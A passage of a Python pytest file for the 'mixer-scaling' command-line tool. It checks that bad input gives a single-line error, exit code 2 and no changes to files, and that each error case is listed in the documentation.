# ---------------------------------------------------------------------------------------------
# Tests
# ---------------------------------------------------------------------------------------------


def test_the_matrix_covers_every_category():
    assert len(CASES) >= 24 and len(BY_ID) == len(CASES), "case ids must be unique"
    counts = {cat: sum(c.category == cat for c in CASES) for cat in CATEGORIES}
    assert all(n >= 3 for n in counts.values()), counts
    assert {c.category for c in CASES} == set(CATEGORIES)


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id, marks=[pytest.mark.xfail(strict=True, reason=c.needs_fix)]
                                               if c.needs_fix else []) for c in CASES])
def test_bad_input_is_one_line_exit_2_and_nothing_changes(case, world, monkeypatch, capsys, caplog):
    if case.setup:
        case.setup(world)
    before = snapshot(world)
    code, out, err = run_case(case, world, monkeypatch, capsys)

    lines = [line for line in err.splitlines() if line.strip()]
    assert code == 2, (code, err)
    assert lines, "nothing said"
    assert "Traceback" not in err and out == "", (out, err)
    last = lines[-1]
    if case.argparse:
        assert re.match(r"mixer-scaling( [\w-]+)*: error: ", last), err
    else:
        assert len(lines) == 1 and last.startswith("error: "), err
    for word in case.mentions:
        word = fill(word, world)[0]
        assert word in last, f"{word!r} not in: {last}"
    warnings = [r for r in caplog.records if r.levelname in ("WARNING", "ERROR") and r.name.startswith("mixer_scaling")]
    assert not warnings, [r.getMessage() for r in warnings]  # the console would print them as more lines
    assert snapshot(world) == before  # nothing created (runs/, outputs/, wandb/, .sweeps), changed or lost


def test_the_console_script_says_the_same_one_line(world):
    """One case through a real process (``python -m mixer_scaling.cli``, what the ``mixer-scaling`` script runs):
    logging configured as for a user, so a warning printed before the error would show here."""
    corrupt_runs(world)
    before = snapshot(world)
    proc = run_cli(["-m", "mixer_scaling.cli", "collect", str(world / "broken_runs"), "-o",
                    str(world / "results.parquet")], cwd=world)
    lines = proc.stderr.strip().splitlines()
    assert proc.returncode == 2 and len(lines) == 1 and proc.stdout == "", proc.stderr
    assert lines[0].startswith("error: no pre-training records under") and "3 unreadable" in lines[0]
    assert snapshot(world) == before


def readme_section() -> str:
    return (ROOT / "docs" / "bad-input.md").read_text()


def test_every_case_is_in_the_readme_table():
    section = readme_section()
    rows = {m.group(1) for m in re.finditer(r"^\| `([\w-]+)` \|", section, re.M)}
    assert rows == set(BY_ID), {"missing in docs/bad-input.md": sorted(set(BY_ID) - rows),
                                "not a case": sorted(rows - set(BY_ID))}
